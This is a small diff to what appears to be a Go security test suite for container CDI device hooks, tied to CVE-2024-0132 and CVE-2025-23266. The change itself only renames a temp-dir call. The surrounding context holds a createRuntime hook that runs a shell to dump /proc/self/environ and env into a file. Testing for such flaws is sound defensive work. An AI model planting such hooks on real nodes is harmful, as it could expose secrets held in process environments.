@@ -335,7 +335,7 @@ func m12(a *attack) {
 // hookEnvironment has a hook of the node's CDI device write down its environment: CVE-2024-0132 and
 // CVE-2025-23266.
 func hookEnvironment(a *attack) {
-	file := filepath.Join(a.T.TempDir(), "environ")
+	file := filepath.Join(a.TempDir(), "environ")
 	a.cdi(`"containerEdits": {"hooks": [{"hookName": "createRuntime", "path": "/bin/sh",
 		"args": ["sh", "-c", "tr '\\0' '\\n' </proc/self/environ >` + file + `; env >>` + file + `"]}]}`)
 	p := a.pod(quick)
